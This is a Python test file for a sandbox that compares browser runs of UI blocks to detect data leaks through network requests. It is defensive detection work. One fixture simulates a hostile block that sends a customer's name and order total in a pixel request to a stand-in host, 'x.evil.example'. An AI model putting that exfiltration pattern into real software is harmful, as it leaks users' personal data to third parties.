"""The differential review's comparison (no browser: the engines' side is
tests/browser/test_review_browser.py's corpus cases; the canaries it varies: test_review_canaries.py)."""

from __future__ import annotations

from flowui_sandbox.sandbox.review.browser.canaries import Canaries
from flowui_sandbox.sandbox.review.browser.differential import MAX_EVENTS, Event, Log, baseline, confirmed, deviation, events
from flowui_sandbox.sandbox.review.browser.hostpage import MAX_ITEMS
from flowui_sandbox.sandbox.review.browser.proxy import FLOOD, HOST_ORIGIN, Seen, image, image_size


def req(host: str, path: str, query: str = "") -> Event:
    return Event("request", host, f"GET {path}?{query} ")


def test_a_cache_buster_is_noise_and_the_data_is_not():
    a = [req("x.example", "/p.gif", "v=anna&r=0.1234")]
    a2 = [req("x.example", "/p.gif", "v=anna&r=0.9876")]
    base = baseline(a, a2)
    assert not base.unstable
    assert not deviation(base, [req("x.example", "/p.gif", "v=anna&r=0.5555")])
    changed = deviation(base, [req("x.example", "/p.gif", "v=lena&r=0.5555")])
    assert changed and changed.keys == {("request", "x.example")}


def test_one_character_per_request_changes_the_count_and_the_urls():
    def run(name: str) -> list[Event]:
        return [req("c.example", f"/s/{i}/{ord(ch)}.gif") for i, ch in enumerate(name)]

    base = baseline(run("anna"), run("anna"))
    assert not deviation(base, run("anna"))
    assert deviation(base, run("marta")).keys == {("request", "c.example")}
    assert deviation(base, run("bnna")).keys == {("request", "c.example")}


def test_the_order_of_requests_carries_data_when_same_data_keeps_it():
    a = [req("o.example", "/1"), req("o.example", "/2"), req("o.example", "/3")]
    base = baseline(a, list(a))
    assert base.ordered
    swapped = deviation(base, [a[2], a[0], a[1]])
    assert swapped.reordered and swapped.keys == {("order", "")}
    # Same data, another order: the order is noise, and B's order is not evidence.
    assert not deviation(baseline(a, [a[1], a[0], a[2]]), [a[2], a[0], a[1]])


def at(events: list[Event], *times: float) -> list[Event]:
    return [Event(e.kind, e.host, e.text, t) for e, t in zip(events, times)]


def test_a_burst_arrives_in_the_networks_order_not_the_blocks():
    # Four images of one page reach the proxy within milliseconds, in whatever order their
    # connections won: no order, so another order is no deviation (benign_carousel's false positive).
    imgs = [req("cdn.example", f"/{i}.jpg") for i in range(4)]
    base = baseline(at(imgs, 0.0, 0.01, 0.02, 0.03), at(imgs, 5.0, 5.01, 5.02, 5.03))
    assert not deviation(base, at([imgs[1], imgs[0], imgs[3], imgs[2]], 9.0, 9.001, 9.02, 9.021))
    # The same requests a second apart each: their order is the script's.
    spaced = baseline(at(imgs, 0, 1, 2, 3), at(imgs, 10, 11, 12, 13))
    assert deviation(spaced, at([imgs[1], imgs[0], imgs[2], imgs[3]], 20, 21, 22, 23)).keys == {("order", "")}
    # ... but not when this run sent the swapped pair as a burst.
    assert not deviation(spaced, at([imgs[1], imgs[0], imgs[2], imgs[3]], 20, 20.01, 22, 23))


def test_same_data_runs_of_other_lengths_agree_on_the_order_of_what_they_share():
    # A2 sent one more request (unstable) and two of A's in another order: spaced apart, the
    # order is unstable; in a burst, it is no order at all.
    a = [req("o.example", f"/{i}") for i in range(3)]
    extra = req("o.example", "/late")
    assert not baseline(at(a, 0, 1, 2), at([extra, a[1], a[0], a[2]], 9, 10, 11, 12)).ordered
    assert baseline(at(a, 0, 0.01, 2), at([extra, a[1], a[0], a[2]], 9, 10, 10.01, 12)).ordered
    assert baseline(at(a, 0, 1, 2), at([a[0], extra, a[1], a[2]], 9, 9.5, 10, 11)).ordered
    # The pair A2 swapped sits past the end of A's (the baseline read A2's positions in A's list).
    assert not baseline(at(a, 0, 1, 2), at([extra, a[0], a[2], a[1]], 9, 10, 11, 12)).ordered


def test_an_order_is_confirmed_only_when_repeated_exactly():
    a = [req("o.example", f"/{i}") for i in range(4)]
    base = baseline(a, list(a))
    first = deviation(base, [a[1], a[0], a[2], a[3]])
    assert confirmed(first, deviation(base, [a[1], a[0], a[2], a[3]])) == {("order", "")}
    assert confirmed(first, deviation(base, [a[0], a[1], a[3], a[2]])) == set()


def test_an_event_in_one_same_data_run_only_is_unstable():
    base = baseline([req("r.example", "/a")], [req("r.example", "/a"), req("r.example", "/b")])
    assert base.unstable == [req("r.example", "/b")]
    # B may send it or not: no deviation either way.
    assert not deviation(base, [req("r.example", "/a"), req("r.example", "/b")])
    assert not deviation(base, [req("r.example", "/a")])


def test_a_change_is_confirmed_only_on_the_same_kind_and_host():
    base = baseline([req("h.example", "/x")], [req("h.example", "/x")])
    first = deviation(base, [req("h.example", "/y")])
    assert confirmed(first, deviation(base, [req("h.example", "/z")])) == {("request", "h.example")}
    assert confirmed(first, deviation(base, [req("h.example", "/x"), req("other.example", "/race")])) == set()


def test_events_leave_out_the_host_origin_and_keep_bridge_calls():
    seen = [Seen("https", "a.example", "GET", "/p", "q=1", {}), Seen("https", HOST_ORIGIN, "GET", "/rel", "", {}),
            Seen("https", "b.example:443", "POST", "/c", "", {}, b'{"k":"v"}')]
    host = {"urls": [{"url": "https://o.example/x"}], "actions": [{"action": "save", "payload": {"n": 1}}],
            "values": [{"path": "draft.x", "value": "typed"}]}
    log = events(seen, None, host)
    got = log.events
    assert not log.cut
    assert [(e.kind, e.host) for e in got] == [("request", "a.example"), ("request", "b.example"), ("openUrl", "o.example"),
                                               ("send", "save"), ("setValue", "draft.x")]
    assert got[1].text.endswith('{"k":"v"}')


def test_an_open_the_host_refused_for_want_of_the_activation_is_compared_as_one_it_opened():
    """Under load one run's openUrl can be refused (the pointer had moved on when its request reached
    the host) and another's honoured: the same target either way, so no difference between them."""
    refusal = {"code": "no-gesture", "message": "openUrl needs a user gesture in this block: ...",
               "detail": {"url": "https://o.example/x"}}
    honoured = events([], None, {"urls": [{"url": "https://o.example/x"}]}).events
    refused = events([], None, {"log": [refusal, refusal, {"code": "csp-violation", "detail": {"url": "https://n.example/"}}]}).events
    assert honoured == refused == [Event("openUrl", "o.example", "https://o.example/x")]
    both = events([], None, {"urls": [{"url": "https://o.example/x"}], "log": [refusal]}).events
    assert both == honoured


def flood(numbers, at: float = 0.0) -> list[Event]:
    return [Event("request", "flood.example", f"GET /{i}? ", at + i / 1000) for i in numbers]


def test_two_floods_cut_at_different_requests_are_not_unstable():
    """Which of a flood's requests reach the proxy before the review ends is the network's race: two
    floods with the same data record different numbers. A request missing from a cut run may lie
    past the cut: no evidence (the corpus's request_flood was inconsistent in WebKitGTK once in five
    runs)."""
    a = Log(flood(range(0, 300)), frozenset({"request"}))
    a2 = Log(flood(range(0, 240)), frozenset({"request"}))
    base = baseline(a, a2)
    assert not base.unstable and len(base.past_cut) == 60
    b = Log(flood(range(0, 270)), frozenset({"request"}))
    assert not deviation(base, b)
    # Kinds that were not cut are still compared: an openUrl in one same-data run only.
    extra = Event("openUrl", "o.example", "https://o.example/")
    assert baseline(Log([*a.events, extra], a.cut), a2).unstable == [extra]


def test_what_whole_runs_show_still_counts_beside_a_cut_one():
    base = baseline(flood(range(5)), flood(range(5)))
    # B's data makes it flood: its log is cut, and what it sent that no template matches is data.
    grown = deviation(base, Log(flood(range(400))[:MAX_EVENTS], frozenset({"request"})))
    assert grown.keys == {("request", "flood.example")}
    # A and A2 both whole: the templates a whole B lacks are data.
    shrunk = deviation(base, flood(range(3)))
    assert shrunk.missing and not shrunk.new


def test_a_flood_cut_in_one_same_data_run_only_is_the_race_in_both():
    """One flood's record cut past FLOOD, its repeat with the same data slower and whole (WebKitGTK
    under load, CI): what either has without a partner, and what B lacks, is no evidence."""
    a = Log(flood(range(0, 300)), frozenset({"request"}))
    a2 = Log(flood(range(0, 150)))
    base = baseline(a, a2)
    assert not base.unstable and len(base.past_cut) == 150
    assert not deviation(base, flood(range(0, 90))) and not deviation(base, Log(flood(range(0, 300)), frozenset({"request"})))


def test_a_log_is_cut_past_the_proxy_s_or_the_host_page_s_keep():
    seen = [Seen("https", "f.example", "GET", f"/{i}", "", {}) for i in range(MAX_EVENTS + 1)]
    assert events(seen, None, {}).cut == {"request"}
    assert events(seen[:FLOOD + 1], None, {}).cut == {"request"} and not events(seen[:FLOOD], None, {}).cut
    assert events(seen[:FLOOD], None, {}, dropped=1).cut == {"request"}
    assert len(events(seen, None, {}).events) == MAX_EVENTS
    sends = {"actions": [{"action": "save", "payload": i} for i in range(MAX_ITEMS)]}
    log = events(seen[:3], None, sends)
    assert log.cut == {"send"} and len(log.events) == 3 + MAX_ITEMS


def test_image_answers_have_plausible_sizes():
    assert image_size("/brand/logo.png", "") != (1, 1)
    assert image_size("/i/200x50/banner.png", "") == (200, 50)
    assert image_size("/i.png", "w=30&h=10") == (30, 10)
    png = image(300, 250)
    assert png.startswith(b"\x89PNG") and int.from_bytes(png[16:20], "big") == 300


def test_a_random_choice_sent_again_as_it_was_is_no_evidence():
    one, two = Event("openUrl", "one.example", "https://one.example/"), Event("openUrl", "two.example", "https://two.example/")
    base = baseline([one], [two])
    assert base.unstable == [one, two]
    assert not deviation(base, [two]) and not deviation(base, [one])


def test_the_comparison_takes_any_runs_and_finds_nothing_in_a_repeat():
    """Property: runs of any length, order and timing compare without error, and a run compared
    with itself (as ``A``, ``A2`` and ``B``) deviates in nothing."""
    from hypothesis import given, settings
    from hypothesis import strategies as st

    event = st.builds(lambda host, path, t: Event("request", host, f"GET /{path}? ", t),
                      st.sampled_from(["a.example", "b.example"]), st.sampled_from(["1", "2", "x/3"]),
                      st.one_of(st.none(), st.floats(0, 5)))
    runs = st.lists(event, max_size=8)

    @settings(max_examples=300, deadline=None)
    @given(runs, runs, runs)
    def check(a, a2, b):
        base = baseline(a, a2)
        confirmed(deviation(base, b), deviation(base, a))
        assert not deviation(baseline(a, a), a)

    check()


def test_an_unstable_block_s_review_keeps_what_the_user_did_in_both_same_data_runs(monkeypatch):
    """``A`` opened a URL on a click and ``A2``, with the same data, did not: the outcome keeps both
    runs' actions, failures included (a click that went otherwise explains it; the same actions in
    both say the block itself behaved differently). The finding's evidence: test_review_judge.py."""
    import asyncio
    import ssl

    from flowui_sandbox.sandbox.engines import Engine
    from flowui_sandbox.sandbox.review.browser.run import Lane, Recording

    opened = {"status": "connected", "urls": [{"url": "https://example.com/terms"}]}
    first = Recording("webkit", Canaries("a" * 16), host=opened, actions=["type <input> #0", "click <a> #2"])
    then = iter([Recording("webkit", Canaries("b" * 16), host=opened, actions=["type <input> #0", "click <a> #2"]),  # B
                 Recording("webkit", Canaries("a" * 16), host={"status": "connected"},  # A2
                           actions=["type <input> #0", "click <a> #2 failed: the element is gone or has no box"])])
    lane = Lane(Engine("webkit", "fake", None, "test"), ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER), time_limit=5)

    async def review(work, page, tap, canaries, shots=True):
        return next(then), True

    monkeypatch.setattr(lane, "review", review)
    outcome, keep = asyncio.run(lane.differ(None, None, None, first))
    assert keep and [(u.kind, u.host) for u in outcome.unstable] == [("openUrl", "example.com")]
    assert outcome.as_dict()["unstable_actions"] == {
        "first": ["type <input> #0", "click <a> #2"],
        "then": ["type <input> #0", "click <a> #2 failed: the element is gone or has no box"]}


def test_a_short_number_beside_a_named_canary_is_attributed_too(monkeypatch):
    """A block sends its customer's name and the order's total (three digits, as real totals have)
    in one request: the fast path names the name, not the total. The request is still the
    differential review's, and its attribution runs name the total beside the name."""
    import asyncio
    import ssl

    from flowui_sandbox.sandbox.engines import Engine
    from flowui_sandbox.sandbox.review.browser.run import Lane, Recording

    state = {"customer": {"name": "Ann Lee"}, "order": {"total": 125}}

    def block(canaries: Canaries) -> Recording:  # what the block sends, from the data it is given
        data = canaries.state(state, ["customer.name", "order.total"])
        sent = Seen("https", "x.evil.example", "GET", "/p.gif", f"u={data['customer']['name']}&t={data['order']['total']}", {})
        return Recording("chromium", canaries, seen=[sent], host={"status": "connected"}, actions=["click <button> #0"])

    first = block(Canaries("a" * 16))
    assert [e.host for e in first.unexplained()] == ["x.evil.example"]  # the name is found in it; the total is not
    lane = Lane(Engine("chromium", "fake", None, "test"), ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER), time_limit=5)

    async def review(work, page, tap, canaries, shots=True):
        return block(canaries), True

    monkeypatch.setattr(lane, "review", review)
    outcome, keep = asyncio.run(lane.differ(None, None, None, first))
    assert keep and [(leak.host, sorted(leak.inputs)) for leak in outcome.leaks] == [
        ("x.evil.example", ["customer.name", "order.total"])]
